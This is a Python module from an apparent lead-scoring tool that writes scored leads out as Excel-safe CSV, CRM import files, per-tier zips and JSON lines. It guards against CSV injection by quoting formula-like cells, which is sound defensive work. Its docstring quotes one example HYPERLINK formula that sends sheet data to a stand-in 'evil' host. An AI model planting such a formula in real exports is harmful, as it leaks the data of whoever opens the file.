"""Scored leads out: Excel-safe CSV, a CRM import file, one file per tier, JSON lines, the call list.

Every output shows the user's cells as the export wrote them ("2018-05-07", "1.0", "007", a blank
as a blank; see :func:`as_written`): only formula cells are changed, in the files for Excel.

Spreadsheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, so a lead
whose "notes" say ``=HYPERLINK("http://evil/?"&A1)`` could leak the sheet when a marketer opens
the call list (CSV injection, OWASP). The look-alikes a spreadsheet may read the same way count
too: the fullwidth forms (＝ ＋ － ＠), the small forms (﹦ ﹢ ﹣ ﹫) and a cell starting with a tab or
a carriage return. :func:`excel_safe` puts a single quote in front of such cells, so they show as
text, and leaves alone what is plainly data: numbers ("-12.5") and phone numbers ("+61 98 361
5373") written with the ASCII signs, which a CRM import must receive unchanged.

The "for CRM import" file is the opposite trade: UTF-8, no escaping at all, the columns a CRM
maps (the lead's key first: its identifier, or its ``row`` in the file when it has none; then
score, tier, next action, top reason), in the file's order unless sorting is asked for. It is not
for opening in Excel.
"""

from __future__ import annotations

import csv
import io
import json
import math
import re
import zipfile
from collections.abc import Iterator

import numpy as np
import pandas as pd

from leadscore.io.as_written import cells_as_written
from leadscore.model.tiers import TIERS

__all__ = [
    "ROW_COLUMN",
    "as_written",
    "excel_safe",
    "is_formula",
    "scored_csv",
    "crm_csv",
    "crm_columns",
    "call_list",
    "tier_zip",
    "tier_frames",
    "write_csv",
    "jsonl",
    "records",
    "ranked",
    "TIER_FILES",
    "TIER_FILE_ENCODING",
]

TIER_FILES = {tier: f"{tier.lower()}.csv" for tier in TIERS}
# Files opened in Excel get a byte-order mark so Excel reads accents right.
TIER_FILE_ENCODING = "utf-8-sig"
SCORE_COLUMNS = ("lead_score", "conversion_probability", "tier", "next_action", "reason_1", "reason_2", "reason_3")
# The lead's row in the file (1 = the first lead under the header), the key of a file without IDs.
ROW_COLUMN = "row"

# What a spreadsheet reads as the start of a formula: = + - @ (and their fullwidth and small
# forms, which some spreadsheet programs fold to ASCII), after any leading spaces or control
# characters; a cell that *starts* with a tab, a carriage return or a line feed is treated the
# same way. Only the ASCII + and - may start a plain number or a phone number.
_TRIGGERS = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b"
_LEADING = re.compile(r"^[\s\x00-\x1f\u00a0\u3000]*")
_PLAIN_NUMBER = re.compile(r"^[+-]?([0-9][0-9,]*\.?[0-9]*|\.[0-9]+)([eE][+-]?[0-9]+)?%?$")
# A phone number: one leading + or -, then digits grouped by spaces, dots, dashes, slashes or
# parentheses; 6 to 15 digits (E.164 allows 15). Nothing a spreadsheet could call.
_PHONE = re.compile(r"^[+-]?\(?[0-9]{1,5}\)?([ .\-/]?\(?[0-9]{1,6}\)?){1,6}$")


def is_formula(value: str) -> bool:
    """Whether a spreadsheet could run this text as a formula (see the module docstring).

    Example
    -------
    >>> [is_formula(v) for v in ["=1+1", " =1+1", "\\n=1+1", "+61 98 361 5373", "-12.5", "@SUM(A1)", "+1+1"]]
    [True, True, True, False, False, True, True]
    """
    if not value:
        return False
    if value[0] in "\t\r\n":
        return True
    stripped = _LEADING.sub("", value)
    if not stripped or stripped[0] not in _TRIGGERS:
        return False
    if set(stripped.strip()) <= {"-"}:
        return False  # "-", "--": a blank written as dashes, text to every spreadsheet
    if stripped[0] in "+-" and len(stripped) == len(value):
        if _PLAIN_NUMBER.match(stripped):
            return False
        digits = sum(ch.isdigit() for ch in stripped)
        if 6 <= digits <= 15 and _PHONE.match(stripped):
            return False
    return True


def _escape_text(series: pd.Series) -> pd.Series:
    # Text is checked once per distinct value: exports repeat values a lot.
    text = series.astype("string") if not isinstance(series.dtype, pd.StringDtype) else series
    codes, uniques = pd.factorize(text, use_na_sentinel=True)
    risky = np.array([is_formula(str(v)) for v in uniques] + [False], dtype=bool)
    flagged = risky[codes]
    if not flagged.any():
        return series
    # Object dtype keeps the other values (numbers, booleans, None) exactly as they were.
    escaped = series.astype(object).copy()
    escaped[flagged] = "'" + text[flagged].astype(object)
    return escaped


def excel_safe(df: pd.DataFrame) -> pd.DataFrame:
    """A copy safe to open in Excel (formula cells shown as text), data values unchanged.

    Text cells and column names a spreadsheet could run as a formula get a leading single quote
    (OWASP's advice); numbers, booleans, dates, plain numbers written as text and phone numbers
    stay exactly as they are.

    Parameters
    ----------
    df : DataFrame

    Returns
    -------
    DataFrame (a new one; ``df`` is not changed)

    Example
    -------
    >>> excel_safe(pd.DataFrame({"note": ["=HYPERLINK(\\"x\\")", "-12.5", "+44 20 7946 0958"]}))["note"].tolist()
    ['\\'=HYPERLINK("x")', '-12.5', '+44 20 7946 0958']
    """
    safe = df.copy()
    for position in range(df.shape[1]):
        series = df.iloc[:, position]
        if isinstance(series.dtype, pd.CategoricalDtype):
            series = series.astype(object)
        if pd.api.types.is_object_dtype(series.dtype) or pd.api.types.is_string_dtype(series.dtype):
            safe.isetitem(position, _escape_text(series))
    names = pd.Series([str(c) for c in df.columns], dtype=object)
    escaped_names = _escape_text(names)
    if not escaped_names.equals(names):
        safe.columns = list(escaped_names)
    return safe


def ranked(scored: pd.DataFrame) -> pd.DataFrame:
    """Scored leads best first (highest conversion probability), the call list order; ties keep
    the input order. With ``expected_value`` (scored with a value column), highest expected value
    first, leads without a value after those with one, each group by chance."""
    if "expected_value" in scored.columns:
        return scored.sort_values(["expected_value", "conversion_probability"], ascending=[False, False],
                                  na_position="last", kind="stable")
    return scored.sort_values("conversion_probability", ascending=False, kind="stable")


def write_csv(frame: pd.DataFrame, sink, header: bool) -> None:
    """Write a table as CSV bytes with Arrow's C++ writer (several times faster than
    ``DataFrame.to_csv`` on text columns); pandas' writer for what Arrow cannot convert."""
    import pyarrow as pa
    import pyarrow.csv as arrow_csv

    frame = _booleans_as_written(frame)
    try:
        table = pa.Table.from_pandas(frame, preserve_index=False)
    except (pa.ArrowInvalid, pa.ArrowTypeError, pa.ArrowNotImplementedError):
        # Text quoted as Arrow quotes it: Python's writer leaves a lone CR unquoted when lines
        # end with LF, and every spreadsheet then splits that lead over two rows.
        text = frame.to_csv(index=False, header=header, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC)
        sink.write(text.encode("utf-8"))
        return
    arrow_csv.write_csv(table, sink, write_options=arrow_csv.WriteOptions(include_header=header, quoting_style="needed"))


def _booleans_as_written(frame: pd.DataFrame) -> pd.DataFrame:
    """Yes/no values written back as the file had them ("True", not Arrow's "true")."""
    columns = [
        position
        for position in range(frame.shape[1])
        if pd.api.types.is_bool_dtype(frame.iloc[:, position].dtype)
        or (frame.iloc[:, position].dtype == object and pd.api.types.infer_dtype(frame.iloc[:, position], skipna=True) == "boolean")
    ]
    if not columns:
        return frame
    frame = frame.copy()
    for position in columns:
        values = frame.iloc[:, position]
        frame.isetitem(position, values.map(lambda v: str(bool(v)) if isinstance(v, (bool, np.bool_)) else v).astype(object))
    return frame


def as_written(scored: pd.DataFrame) -> pd.DataFrame:
    """The scored leads with the user's cells as the export wrote them, for an output.

    Leads read by :func:`leadscore.io.read.read_leads` get their cells back as text
    (:func:`leadscore.io.as_written.cells_as_written`: "2018-05-07", "1.0", "007", a blank cell
    as ""); the score columns are unchanged. Values that are not text any more (a table built in
    code, a run restored from a project) are written as a spreadsheet shows them: a date without
    a time as "2018-05-07", with one as "2018-05-07 09:30:00".

    Example
    -------
    >>> from leadscore.io.read import read_leads
    >>> leads = read_leads(b"id,signed_up,deal\\n007,2018-05-07,1.0\\n")
    >>> as_written(leads.assign(lead_score=[80])).to_dict("list")
    {'id': ['007'], 'signed_up': ['2018-05-07'], 'deal': ['1.0'], 'lead_score': [80]}
    """
    shown = cells_as_written(scored)
    dates = [p for p in range(shown.shape[1]) if pd.api.types.is_datetime64_any_dtype(shown.iloc[:, p].dtype)]
    if not dates:
        return shown
    shown = shown.copy() if shown is scored else shown
    for position in dates:
        shown.isetitem(position, _date_text(shown.iloc[:, position]))
    return shown


def _date_text(dates: pd.Series) -> pd.Series:
    """Dates as text: "2018-05-07" when no value has a time of day, else "2018-05-07 09:30:00"; blank as ""."""
    if isinstance(dates.dtype, pd.DatetimeTZDtype):
        dates = dates.dt.tz_convert("UTC").dt.tz_localize(None)
    known = dates.dropna()
    with_time = bool((known != known.dt.normalize()).any())
    text = dates.dt.strftime("%Y-%m-%d %H:%M:%S" if with_time else "%Y-%m-%d")
    return text.astype(object).where(dates.notna(), "")


def scored_csv(scored: pd.DataFrame) -> bytes:
    """The scored leads as an Excel-safe UTF-8 CSV (with a byte-order mark so Excel reads accents),
    the user's cells as written (:func:`as_written`)."""
    buffer = io.BytesIO()
    buffer.write("".encode(TIER_FILE_ENCODING))
    write_csv(excel_safe(as_written(scored)), buffer, header=True)
    return buffer.getvalue()


def call_list(scored: pd.DataFrame, identifiers=()) -> pd.DataFrame:
    """The call list as people read it: who the lead is, score, tier and the reasons in one
    "why" text (best first). The next action is the tier's, so it is said once per tier.

    Who the lead is: its ``row`` in the file first when the scored leads carry one (a file without
    an ID column), then up to two ``identifiers``, their cells as written (a blank is "").
    """
    ordered = as_written(ranked(scored))
    key = [ROW_COLUMN] if ROW_COLUMN in ordered.columns and ROW_COLUMN not in identifiers else []
    who = [c for c in identifiers if c in ordered.columns and c not in SCORE_COLUMNS][:2]
    reasons = [c for c in ("reason_1", "reason_2", "reason_3") if c in ordered.columns]
    value = ["expected_value"] if "expected_value" in ordered.columns else []
    table = ordered[[*key, *who, "lead_score", "tier", *value]].copy()
    for column in who:
        if not pd.api.types.is_numeric_dtype(table[column].dtype):
            table[column] = table[column].astype(object).where(table[column].notna(), "")
    parts = ordered[reasons].fillna("").astype(str)
    table["why"] = parts.apply(lambda row: " · ".join(text for text in row if text), axis=1) if reasons else ""
    return table


def crm_columns(scored: pd.DataFrame, identifiers=()) -> list[str]:
    """The columns of the CRM import file: the lead's key (its ``row`` in the file, when the leads
    carry one, then the ``identifiers``), then score, tier, action, top reason."""
    key = [ROW_COLUMN] if ROW_COLUMN in scored.columns and ROW_COLUMN not in identifiers else []
    who = [c for c in identifiers if c in scored.columns and c not in SCORE_COLUMNS]
    wanted = ["lead_score", "conversion_probability", "expected_value", "tier", "next_action", "reason_1"]
    return key + who + [c for c in wanted if c in scored.columns]


def crm_csv(scored: pd.DataFrame, identifiers=(), sort: bool = False) -> bytes:
    """The scored leads for a CRM import: UTF-8 without a byte-order mark and without formula
    escaping (a CRM stores what it is given; an apostrophe would end up in its records), cells as
    written. Not for opening in a spreadsheet: use :func:`scored_csv` for that.

    Parameters
    ----------
    scored : DataFrame
        From scoring.
    identifiers : sequence of str
        The columns that say who a lead is (ID, email, name), first in the file (after ``row``,
        the lead's row in the file, when the leads have no ID column and carry it).
    sort : bool
        Best leads first. By default the leads are in the file's order (the order of the index,
        which is the file's for leads read from a file), so the file joins back to the export.
    """
    ordered = ranked(scored) if sort else scored.sort_index(kind="stable")
    buffer = io.BytesIO()
    write_csv(as_written(ordered)[crm_columns(scored, identifiers)], buffer, header=True)
    return buffer.getvalue()


def tier_frames(scored: pd.DataFrame) -> dict[str, pd.DataFrame]:
    """The scored leads of each tier, in their given order (empty tiers included)."""
    return {tier: scored[scored["tier"] == tier] for tier in TIERS}


def tier_zip(scored: pd.DataFrame) -> bytes:
    """A zip of hot.csv, warm.csv, cool.csv and cold.csv (Excel-safe, cells as written), best leads first."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for tier, frame in tier_frames(as_written(ranked(scored))).items():
            archive.writestr(TIER_FILES[tier], scored_csv(frame))
    return buffer.getvalue()


def _json_value(value):
    if value is None:
        return None
    if isinstance(value, (np.bool_, bool)):
        return bool(value)
    if isinstance(value, np.integer):
        return int(value)
    if isinstance(value, (float, np.floating)):
        return None if math.isnan(value) or math.isinf(value) else float(value)
    if isinstance(value, pd.Timestamp):
        return None if pd.isna(value) else value.isoformat()
    if value is pd.NA or value is pd.NaT:
        return None
    return value


def records(scored: pd.DataFrame) -> Iterator[dict]:
    """Each row as a JSON-ready dict (NaN and NaT as None, numpy values as Python ones)."""
    columns = [str(c) for c in scored.columns]
    for row in scored.itertuples(index=False, name=None):
        yield {column: _json_value(value) for column, value in zip(columns, row)}


def jsonl(scored: pd.DataFrame) -> str:
    """The rows as JSON lines, the user's cells as written (:func:`as_written`) and not escaped
    (JSON is not opened by spreadsheets)."""
    return "".join(json.dumps(record, ensure_ascii=False, default=str) + "\n" for record in records(as_written(scored)))
